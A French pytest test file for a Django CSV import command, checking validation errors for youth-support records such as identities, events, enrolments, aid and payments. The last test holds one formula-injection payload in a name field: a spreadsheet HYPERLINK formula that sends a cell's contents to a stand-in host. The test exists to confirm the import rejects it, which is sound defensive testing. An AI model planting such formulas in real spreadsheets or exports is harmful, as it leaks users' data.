# ruff: noqa: E501 - messages attendus gardés entiers
"""Chaque règle du format d'échange : erreurs exactes `fichier:ligne: colonne: message`, code 1, rien d'écrit."""

import datetime

import pytest
from django.utils import timezone

from accompagnement.models import Evenement, Jeune
from aides.models import DemandeAide
from dispositifs.models import Dispositif, Inscription
from tests.reprise.conftest import EN_TETE_JEUNES, ecrire

pytestmark = pytest.mark.django_db

JEUNE_OK = "J1;Le Goff;Éloïse;f;2004-03-01;35238;RENNES_CENTRE;2022-09-01;alice"


def refuse(resultat):
    assert resultat.code == 1, resultat.sortie
    assert any("rien n'a été importé" in ligne for ligne in resultat.lignes)
    return [ligne for ligne in resultat.lignes if ":" in ligne and ".csv:" in ligne]


def jeunes(dossier, *lignes):
    ecrire(dossier, "jeunes.csv", "\n".join([EN_TETE_JEUNES, *lignes]) + "\n")


@pytest.fixture
def dossier_jeune(dossier, alice, catalogue):
    jeunes(dossier, JEUNE_OK)
    return dossier


# --- fichiers mal formés -----------------------------------------------------------------------------------


def test_code_mal_saisi_refuse_avec_la_ligne_exacte_puis_fichier_corrige_importe(dossier, importer, alice):
    jeunes(dossier, JEUNE_OK, "J2;Martin;Paul;g;2003-06-15;35051;;2021-02-01;")

    erreurs = refuse(importer(dossier))

    assert erreurs == ["jeunes.csv:3: sexe: code inconnu « g » (valeurs possibles : f, m)"]
    assert not Jeune.objects.exists()

    jeunes(dossier, JEUNE_OK, "J2;Martin;Paul;m;2003-06-15;35051;;2021-02-01;")
    assert importer(dossier).code == 0
    assert Jeune.objects.count() == 2


def test_mauvais_encodage(dossier, importer, alice):
    ecrire(
        dossier,
        "jeunes.csv",
        EN_TETE_JEUNES + "\nJ0;Abc;Def;f;2004-03-01;35238;;2022-09-01;\n" + JEUNE_OK + "\n",
        encodage="latin-1",
    )

    erreurs = refuse(importer(dossier))

    assert erreurs == [
        "jeunes.csv:3: encodage: caractères invalides : le fichier doit être enregistré en UTF-8 "
        "(il semble encodé en Windows-1252 ou ISO-8859-1)"
    ]
    assert not Jeune.objects.exists()


def test_utf16_refuse(dossier, importer):
    (dossier / "jeunes.csv").write_bytes((EN_TETE_JEUNES + "\n").encode("utf-16"))

    assert refuse(importer(dossier)) == ["jeunes.csv:1: encodage: fichier en UTF-16 : enregistrez-le en UTF-8"]


def test_fichier_vide(dossier, importer):
    ecrire(dossier, "jeunes.csv", "")

    assert refuse(importer(dossier)) == [
        "jeunes.csv:1: en-tête: fichier vide : la première ligne doit être l'en-tête des colonnes"
    ]


def test_en_tete_absent(dossier, importer, alice):
    jeunes_sans_entete = JEUNE_OK + "\n"
    ecrire(dossier, "jeunes.csv", jeunes_sans_entete)

    erreurs = refuse(importer(dossier))

    assert erreurs[0].startswith("jeunes.csv:1: j1: colonne inconnue (colonnes possibles : identifiant, nom,")
    assert "jeunes.csv:1: identifiant: colonne obligatoire absente" in erreurs


def test_colonne_inconnue_et_colonne_obligatoire_absente(dossier, importer):
    ecrire(
        dossier,
        "jeunes.csv",
        "identifiant;nom;prenom;sexxe;date_naissance;commune_insee;date_premier_accueil\n"
        "J1;A;B;f;2004-03-01;35238;2022-09-01\n",
    )

    erreurs = refuse(importer(dossier))

    assert erreurs[0].startswith("jeunes.csv:1: sexxe: colonne inconnue (colonnes possibles : identifiant")
    assert erreurs[1] == "jeunes.csv:1: sexe: colonne obligatoire absente"


def test_colonne_en_double(dossier, importer):
    ecrire(dossier, "evenements.csv", "identifiant_jeune;date;type;date\n")

    assert refuse(importer(dossier)) == ["evenements.csv:1: date: colonne en double"]


def test_identifiant_en_double(dossier, importer, alice):
    jeunes(dossier, JEUNE_OK, "J1;Martin;Paul;m;2003-06-15;35051;;2021-02-01;")

    assert refuse(importer(dossier)) == ["jeunes.csv:3: identifiant: identifiant déjà présent à la ligne 2"]


def test_nombre_de_valeurs_incorrect_et_valeur_obligatoire_vide(dossier, importer, alice):
    jeunes(dossier, JEUNE_OK, "J2;Martin;Paul;m;2003-06-15", "J3;;Paul;m;2003-06-15;35051;;2021-02-01;")

    assert refuse(importer(dossier)) == [
        "jeunes.csv:3: ligne: 5 valeurs au lieu de 9 (séparateur « ; » attendu)",
        "jeunes.csv:4: nom: valeur obligatoire manquante",
    ]


# --- jeunes.csv ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ligne", "erreur"),
    [
        (
            "J2;A;B;m;2003-06-15;3505;;2021-02-01;",
            "commune_insee: code INSEE invalide « 3505 » (5 caractères, par exemple 35238)",
        ),
        (
            "J2;A;B;m;2003-06-15;35999;;2021-02-01;",
            "commune_insee: commune inconnue « 35999 » (code INSEE d'une commune actuelle attendu)",
        ),
        ("J2;A;B;m;2003-06-15;35051;RENNES_NULLE_PART;2021-02-01;", "secteur: secteur inconnu « RENNES_NULLE_PART »"),
        (
            "J2;A;B;m;2003-06-15;35051;RENNES_CENTRE;2021-02-01;",
            "secteur: le secteur n'appartient pas à l'antenne de la commune 35051 (Antenne Rennes Métropole)",
        ),
        ("J2;A;B;m;2003-02-30;35051;;2021-02-01;", "date_naissance: date inexistante « 2003-02-30 »"),
        (
            "J2;A;B;m;2003/06/15;35051;;2021-02-01;",
            "date_naissance: date invalide « 2003/06/15 » (attendu AAAA-MM-JJ ou JJ/MM/AAAA)",
        ),
        (
            "J2;A;B;m;2010-06-15;35051;;2025-06-14;",
            "date_premier_accueil: le jeune a 14 ans à cette date (de 15 à 30 ans attendus)",
        ),
        (
            "J2;A;B;m;1990-06-15;35051;;2021-06-15;",
            "date_premier_accueil: le jeune a 31 ans à cette date (de 15 à 30 ans attendus)",
        ),
        (
            "J2;A;B;m;2003-06-15;35051;;2021-02-01;zoe",
            "conseiller: utilisateur inconnu « zoe » (identifiant de connexion attendu)",
        ),
    ],
)
def test_regles_des_jeunes(dossier, importer, alice, ligne, erreur):
    jeunes(dossier, JEUNE_OK, ligne)

    assert refuse(importer(dossier)) == [f"jeunes.csv:3: {erreur}"]


def test_premier_accueil_dans_le_futur(dossier, importer):
    demain = timezone.localdate() + datetime.timedelta(days=1)
    jeunes(dossier, f"J2;A;B;m;2008-01-01;35051;;{demain:%d/%m/%Y};")

    assert refuse(importer(dossier)) == ["jeunes.csv:2: date_premier_accueil: date dans le futur"]


def test_ages_limites_acceptes_avec_motif_de_derogation(dossier, importer):
    jeunes(dossier, "J15;A;B;m;2010-06-15;35051;;2025-06-15;", "J30;C;D;f;1990-06-15;35051;;2021-06-14;")

    assert importer(dossier).code == 0
    assert Jeune.objects.get(identifiant_externe="J15").derogation_age_motif.startswith("Reprise de données")
    assert Jeune.objects.get(identifiant_externe="J30").age_au(datetime.date(2021, 6, 14)) == 30


@pytest.mark.parametrize(
    ("colonnes", "valeurs", "erreur"),
    [
        ("niveau", "bac", "niveau: code inconnu « bac » (valeurs possibles : infra3, 3, 4, 5, 6, 7, 8)"),
        (
            "hebergement",
            "hotel",
            "hebergement: code inconnu « hotel » (valeurs possibles : famille, autonome, precaire)",
        ),
        ("transport", "velo", "transport: code inconnu « velo » (valeurs possibles : commun, motorise, autre, aucun)"),
        ("permis", "b", "permis: code inconnu « b » (valeurs possibles : oui, en_cours, non)"),
        ("rsa", "oui", "rsa: valeur invalide « oui » (attendu 0 ou 1)"),
        ("courriel", "pas-une-adresse", "courriel: adresse courriel invalide « pas-une-adresse »"),
    ],
)
def test_codes_facultatifs_des_jeunes(dossier, importer, alice, colonnes, valeurs, erreur):
    ecrire(dossier, "jeunes.csv", f"{EN_TETE_JEUNES};{colonnes}\n{JEUNE_OK};{valeurs}\n")

    assert refuse(importer(dossier)) == [f"jeunes.csv:2: {erreur}"]


def test_codes_facultatifs_insensibles_a_la_casse(dossier, importer, alice):
    ecrire(
        dossier,
        "jeunes.csv",
        f"{EN_TETE_JEUNES};niveau;hebergement;transport;permis\n{JEUNE_OK};INFRA3;Famille;COMMUN;En_Cours\n",
    )

    assert importer(dossier).code == 0
    jeune = Jeune.objects.get()
    assert (jeune.niveau, jeune.hebergement, jeune.transport, jeune.permis) == (
        "infra3",
        "famille",
        "commun",
        "en_cours",
    )


# --- evenements.csv ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ligne", "erreur"),
    [
        ("J9;2023-01-01;contact;;;", "identifiant_jeune: jeune inconnu « J9 » (ni dans jeunes.csv ni déjà en base)"),
        (
            "J1;2023-01-01;rdv;;;",
            "type: code inconnu « rdv » (valeurs possibles : entretien_individuel, atelier, information_collective, contact)",
        ),
        (
            "J1;2023-01-01;contact;fax;;",
            "modalite: code inconnu « fax » (valeurs possibles : presentiel, telephone, visio, courriel, sms)",
        ),
        (
            "J1;2023-01-01;contact;;sante_information|sport;",
            "services: service inconnu « sport » (valeurs possibles : sante_information, sante_orientation, sante_aide_financiere, logement_information, logement_intermediation, logement_orientation, logement_aide_financiere, mobilite_information, mobilite_aide)",
        ),
        ("J1;2023-01-01;contact;;;zoe", "conseiller: utilisateur inconnu « zoe » (identifiant de connexion attendu)"),
        ("J1;;contact;;;", "date: valeur obligatoire manquante"),
    ],
)
def test_regles_des_evenements(dossier_jeune, importer, ligne, erreur):
    ecrire(dossier_jeune, "evenements.csv", f"identifiant_jeune;date;type;modalite;services;conseiller\n{ligne}\n")

    assert refuse(importer(dossier_jeune)) == [f"evenements.csv:2: {erreur}"]
    assert not Evenement.objects.exists()


def test_evenement_en_double_selon_la_cle_naturelle(dossier_jeune, importer):
    ecrire(
        dossier_jeune,
        "evenements.csv",
        "identifiant_jeune;date;type;conseiller\nJ1;2023-01-01;contact;alice\nJ1;2023-01-01;contact;\n"
        "J1;01/01/2023;CONTACT;alice\n",
    )

    assert refuse(importer(dossier_jeune)) == [
        "evenements.csv:4: ligne: ligne en double : même jeune, date, type et conseiller que la ligne 2"
    ]


# --- situations.csv ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ligne", "erreurs"),
    [
        (
            "J1;emploi;qualifiante;;2023-01-01;",
            [
                "type: le type « qualifiante » ne correspond pas à la catégorie « emploi » (types possibles : cdi, cdd_6_mois_plus, cdd_moins_6_mois, interim, apprentissage, professionnalisation, contrat_aide, creation_activite)"
            ],
        ),
        ("J1;formation;qualifiante;;2023-01-01;", ["financeur: financeur obligatoire pour une formation"]),
        ("J1;immersion;pmsmp;autre;2023-01-01;", ["financeur: le financeur ne s'indique que pour une formation"]),
        ("J1;emploi;cdi;;2023-01-01;31/12/2022", ["date_fin: la date de fin précède la date de début"]),
        (
            "J1;stage;cdi;;2023-01-01;",
            ["categorie: code inconnu « stage » (valeurs possibles : emploi, formation, immersion)"],
        ),
        (
            "J1;formation;mobilisation;region;2023-01-01;",
            ["financeur: code inconnu « region » (valeurs possibles : conseil_regional, autre)"],
        ),
    ],
)
def test_regles_des_situations(dossier_jeune, importer, ligne, erreurs):
    ecrire(
        dossier_jeune, "situations.csv", f"identifiant_jeune;categorie;type;financeur;date_debut;date_fin\n{ligne}\n"
    )

    assert refuse(importer(dossier_jeune)) == [f"situations.csv:2: {e}" for e in erreurs]


def test_situation_meme_jour_acceptee(dossier_jeune, importer):
    ecrire(
        dossier_jeune,
        "situations.csv",
        "identifiant_jeune;categorie;type;date_debut;date_fin\nJ1;immersion;pmsmp;2023-01-02;2023-01-02\n",
    )

    assert importer(dossier_jeune).code == 0


# --- dispositifs.csv -----------------------------------------------------------------------------------------

EN_TETE_DISPOSITIFS = "identifiant_jeune;dispositif;date_entree;date_sortie;motif_sortie\n"


@pytest.mark.parametrize(
    ("lignes", "erreur"),
    [
        ("J1;cej;2023-01-01;2022-12-31;", "2: date_sortie: la date de sortie précède la date d'entrée"),
        (
            "J1;cej;2023-01-01;2023-06-01;trouve",
            "2: motif_sortie: code inconnu « trouve » (valeurs possibles : emploi, formation, abandon, demenagement, limite_age, fin_de_droits, autre)",
        ),
        ("J1;garantie_jeunes;2022-03-01;;", "2: date_entree: le dispositif est fermé aux entrées depuis le 01/03/2022"),
        (
            "J1;cej;2023-01-01;;\nJ1;cej;2023-02-01;;",
            "3: date_sortie: ce jeune a déjà une inscription en cours dans ce dispositif (ligne 2)",
        ),
        (
            "J1;cej;2023-01-01;2023-02-01;\nJ1;CEJ;01/01/2023;;",
            "3: ligne: ligne en double : même jeune, dispositif et date d'entrée que la ligne 2",
        ),
    ],
)
def test_regles_des_dispositifs(dossier_jeune, importer, lignes, erreur):
    ecrire(dossier_jeune, "dispositifs.csv", EN_TETE_DISPOSITIFS + lignes + "\n")

    assert refuse(importer(dossier_jeune)) == [f"dispositifs.csv:{erreur}"]


def test_dispositif_inconnu(dossier_jeune, importer):
    ecrire(dossier_jeune, "dispositifs.csv", EN_TETE_DISPOSITIFS + "J1;contrat_jeune;2023-01-01;;\n")
    codes = ", ".join(sorted(Dispositif.objects.values_list("code", flat=True)))

    assert refuse(importer(dossier_jeune)) == [
        f"dispositifs.csv:2: dispositif: dispositif inconnu « contrat_jeune » (codes du catalogue : {codes})"
    ]
    assert "cej, cent_chances, cep" in codes


def test_inscription_ouverte_deja_en_base(dossier_jeune, importer):
    ecrire(dossier_jeune, "dispositifs.csv", EN_TETE_DISPOSITIFS + "J1;cej;2023-01-01;;\n")
    assert importer(dossier_jeune).code == 0
    ecrire(dossier_jeune, "dispositifs.csv", EN_TETE_DISPOSITIFS + "J1;pacea;2023-01-01;;\nJ1;cej;2024-01-01;;\n")

    assert refuse(importer(dossier_jeune)) == [
        "dispositifs.csv:3: date_sortie: ce jeune a déjà une inscription en cours dans ce dispositif depuis le "
        "01/01/2023 (indiquez sa sortie dans le fichier)"
    ]

    # Clore l'inscription en cours dans le même fichier permet d'en ouvrir une nouvelle.
    ecrire(
        dossier_jeune,
        "dispositifs.csv",
        EN_TETE_DISPOSITIFS + "J1;cej;2024-01-01;;\nJ1;cej;2023-01-01;2023-12-31;abandon\n",
    )
    resultat = importer(dossier_jeune)
    assert "dispositifs.csv : 2 lignes, 1 créés, 1 modifiés" in resultat.lignes
    assert list(Inscription.objects.order_by("date_entree").values_list("date_sortie", "motif_sortie")) == [
        (datetime.date(2023, 12, 31), "abandon"),
        (None, ""),
    ]
    assert Dispositif.objects.get(code="cej").inscriptions.count() == 2


# --- aides.csv -----------------------------------------------------------------------------------------------

EN_TETE_AIDES = (
    "identifiant_jeune;reference;fonds;type;date_demande;montant_demande;decision;date_decision;montant_accorde\n"
)


@pytest.mark.parametrize(
    ("ligne", "erreurs"),
    [
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;accordee;;80",
            ["date_decision: date de décision obligatoire quand la décision est indiquée"],
        ),
        ("J1;R1;faj_rm;subsistance;2023-02-01;100;;2023-02-10;", ["date_decision: date de décision sans décision"]),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;refusee;2023-01-31;",
            ["date_decision: la décision précède la demande"],
        ),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;accordee;2023-02-10;",
            ["montant_accorde: montant accordé obligatoire pour une aide accordée"],
        ),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;accordee_partiellement;2023-02-10;0",
            ["montant_accorde: le montant doit être supérieur à 0"],
        ),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;accordee;2023-02-10;100,01",
            ["montant_accorde: le montant accordé dépasse le montant demandé"],
        ),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;100;refusee;2023-02-10;50",
            ["montant_accorde: montant accordé sans décision favorable (accordee ou accordee_partiellement)"],
        ),
        ("J1;R1;faj_rm;subsistance;2023-02-01;0;;;", ["montant_demande: le montant doit être supérieur à 0"]),
        (
            "J1;R1;faj_rm;subsistance;2023-02-01;12.345;;;",
            ["montant_demande: montant invalide « 12.345 » (attendu par exemple 1234,50)"],
        ),
        (
            "J1;R1;faj_35;subsistance;2023-02-01;100;;;",
            ["fonds: code inconnu « faj_35 » (valeurs possibles : faj_rm, faj_cd35)"],
        ),
        (
            "J1;R1;faj_rm;loisirs;2023-02-01;100;;;",
            [
                "type: code inconnu « loisirs » (valeurs possibles : subsistance, mobilite, recherche_emploi, attente_remuneration, formation, logement, sante)"
            ],
        ),
        (
            "J1;R1;faj_rm;sante;2023-02-01;100;accepte;2023-02-10;",
            [
                "decision: code inconnu « accepte » (valeurs possibles : accordee, accordee_partiellement, refusee, ajournee)"
            ],
        ),
    ],
)
def test_regles_des_aides(dossier_jeune, importer, ligne, erreurs):
    ecrire(dossier_jeune, "aides.csv", EN_TETE_AIDES + ligne + "\n")

    assert refuse(importer(dossier_jeune)) == [f"aides.csv:2: {e}" for e in erreurs]
    assert not DemandeAide.objects.exists()


def test_reference_d_aide_en_double(dossier_jeune, importer):
    ligne = "J1;R1;faj_rm;subsistance;2023-02-01;100;ajournee;2023-02-10;"
    ecrire(dossier_jeune, "aides.csv", EN_TETE_AIDES + ligne + "\n" + ligne + "\n")

    assert refuse(importer(dossier_jeune)) == ["aides.csv:3: reference: référence déjà présente à la ligne 2"]


def test_aide_accordee_en_totalite(dossier_jeune, importer):
    ecrire(
        dossier_jeune,
        "aides.csv",
        EN_TETE_AIDES + "J1;R1;faj_cd35;mobilite;2023-02-01;100;accordee;2023-02-01;100,00\n",
    )

    assert importer(dossier_jeune).code == 0
    assert DemandeAide.objects.get().montant_accorde == 100


# --- versements.csv ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ligne", "erreur"),
    [
        (
            "J1;allocation_cej;2023-03-05;528;2023-13",
            "periode: période invalide « 2023-13 » (attendu AAAA-MM, par exemple 2024-03)",
        ),
        (
            "J1;allocation_cej;2023-03-05;528;03/2023",
            "periode: période invalide « 03/2023 » (attendu AAAA-MM, par exemple 2024-03)",
        ),
        ("J1;allocation_cej;2023-03-05;-5;2023-02", "montant: montant invalide « -5 » (attendu par exemple 1234,50)"),
        (
            "J1;allocation_faj;2023-03-05;528;2023-02",
            "fonds: code inconnu « allocation_faj » (valeurs possibles : allocation_garantie_jeunes, allocation_cej, allocation_pacea)",
        ),
    ],
)
def test_regles_des_versements(dossier_jeune, importer, ligne, erreur):
    ecrire(dossier_jeune, "versements.csv", f"identifiant_jeune;fonds;date;montant;periode\n{ligne}\n")

    assert refuse(importer(dossier_jeune)) == [f"versements.csv:2: {erreur}"]


def test_toutes_les_erreurs_de_tous_les_fichiers_sont_listees(dossier, importer, alice):
    jeunes(dossier, JEUNE_OK, "J2;Martin;Paul;x;2003-06-15;35051;;2021-02-01;")
    ecrire(dossier, "evenements.csv", "identifiant_jeune;date;type\nJ2;2023-01-01;contact\nJ3;2023-01-01;contact\n")

    erreurs = refuse(importer(dossier))

    # J2 est refusé mais reste connu : pas d'erreur en cascade sur ses événements.
    assert erreurs == [
        "jeunes.csv:3: sexe: code inconnu « x » (valeurs possibles : f, m)",
        "evenements.csv:3: identifiant_jeune: jeune inconnu « J3 » (ni dans jeunes.csv ni déjà en base)",
    ]
    assert any(ligne.startswith("2 erreur(s)") for ligne in importer(dossier).lignes)


def test_telephone_invalide_refuse_comme_a_la_saisie(dossier, importer, alice):
    ecrire(
        dossier,
        "jeunes.csv",
        f"{EN_TETE_JEUNES};telephone\n{JEUNE_OK};06 12 34 56 78\nJ2;Martin;Paul;m;2003-06-15;35051;;2021-02-01;;abc\n",
    )

    assert refuse(importer(dossier)) == [
        "jeunes.csv:3: telephone: numéro de téléphone invalide « abc » (10 chiffres, ou + et 11 à 15 chiffres)"
    ]


def test_nom_qui_commence_comme_une_formule_refuse_comme_a_la_saisie(dossier, importer, alice):
    jeunes(dossier, JEUNE_OK, 'J2;=HYPERLINK("http://exemple.org/?"&B2, "Ouvrir");Paul;m;2003-06-15;35051;;2021-02-01;')

    assert refuse(importer(dossier)) == [
        "jeunes.csv:3: nom: un nom ou un prénom commence par une lettre (pas par =, +, -, @, un chiffre)"
    ]
